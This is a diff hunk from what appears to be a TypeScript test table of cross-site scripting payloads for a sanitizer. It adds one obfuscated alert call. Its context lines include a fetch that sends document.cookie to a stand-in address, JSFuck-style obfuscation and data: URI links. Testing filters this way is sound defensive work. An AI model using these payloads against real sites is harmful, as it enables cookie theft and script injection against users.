@@ -237,6 +237,7 @@ const families: readonly (readonly [string, readonly Case[], readonly Case[]])[]
       "fetch('//192.0.2.1/?c='+document.cookie)",
       'Reflect.apply(alert,null,[1])',
       '[alert][0].call(null,1)',
+      '(f=>f(1))(alert)',
       '(![]+[])[+!+[]]',
       '[a](data:text/html;base64,PGI+)',
       '![a](data:text/html,<b>)',
